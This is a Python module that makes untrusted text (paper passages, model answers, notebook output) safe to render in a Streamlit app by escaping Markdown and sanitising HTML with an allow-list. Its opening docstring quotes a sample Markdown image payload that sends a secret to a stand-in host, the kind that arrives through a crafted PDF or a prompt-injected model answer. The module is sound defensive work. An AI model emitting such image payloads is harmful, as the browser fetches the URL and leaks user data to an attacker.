"""Untrusted text (paper passages, model output, notebook Markdown) made safe to draw as Markdown.

A crafted PDF, a prompt-injected answer or a notebook can carry ``![x](http://host/?q=secret)``: drawn as
Markdown, the browser fetches that URL, an exfiltration channel on an offline machine. Two ways out:

- :func:`escape`: the text shown literally (every Markdown and HTML character escaped), for untrusted pieces
  inside the app's own Markdown (``f"**Reason:** {escape(answer)}"``);
- :func:`markdown_html`: untrusted Markdown kept readable (headings, emphasis, lists, code, tables) as HTML
  sanitised by ``nh3`` with an allow-list that has no images, no links, no URLs and no attributes that load
  anything; draw it with ``st.markdown(..., unsafe_allow_html=True)`` (it is already sanitised).

- :func:`html_fragment`: a notebook's HTML output (pandas tables) sanitised by the same allow-list.

No Streamlit here: ``ui/untrusted.py`` draws with these.
"""

from __future__ import annotations

import re

import nh3
from markdown_it import MarkdownIt

# Every character that can start a link, an image, raw HTML, an autolink, code or math in Streamlit's renderer.
# (Emphasis, headings and lists only change how the text looks; they stay, so the text reads as written.)
_SPECIAL = re.compile(r"([\\`\[\]()<>!$])")
_AUTOLINK = re.compile(r"(?<=:)(?=//)|(?i:www)(?=\.)")
_ALLOWED_TAGS = {"p", "br", "hr", "em", "strong", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
                 "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span"}
_BLANK_LINE = re.compile(r"^[ \t]*$", re.MULTILINE)
_PARSER = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table").enable("strikethrough")


def escape(text: object) -> str:
    """Markdown that shows ``text`` literally: no link, image, HTML, math or formatting can come out of it.
    Line breaks are kept as hard breaks. A bare ``http://`` or ``www.`` would still be linked by GFM's
    autolinks (escapes do not stop them), so a zero-width space breaks the pattern."""
    escaped = _SPECIAL.sub(r"\\\1", str(text if text is not None else ""))
    escaped = _AUTOLINK.sub(lambda m: m.group(0) + "\u200b", escaped)
    return "  \n".join(escaped.splitlines()) if "\n" in escaped else escaped


def markdown_html(text: object) -> str:
    """Untrusted Markdown as sanitised HTML: formatting kept; images, links, raw HTML and every URL dropped
    (a link keeps its words, an image keeps nothing)."""
    html = _PARSER.render(str(text if text is not None else ""))
    clean = nh3.clean(html, tags=_ALLOWED_TAGS, attributes={}, url_schemes=set(), link_rel=None,
                      strip_comments=True)
    # One HTML block for Streamlit's Markdown parser: a blank line (e.g. inside a code block) would end the
    # HTML block and hand the rest back to Markdown, so blank lines get a zero-width space.
    return "<div>" + _BLANK_LINE.sub("&#8203;", clean) + "</div>"


def html_fragment(html: object) -> str:
    """Untrusted HTML output of a notebook (a pandas table, a model's summary) sanitised by nh3 with the same
    allow-list (tables kept; scripts, styles, images, links and URLs dropped), as one HTML block."""
    clean = nh3.clean(str(html if html is not None else ""), tags=_ALLOWED_TAGS | {"caption", "div"}, attributes={},
                      url_schemes=set(), link_rel=None, strip_comments=True)
    return "<div>" + _BLANK_LINE.sub("&#8203;", clean) + "</div>"


__all__ = ["escape", "markdown_html", "html_fragment"]
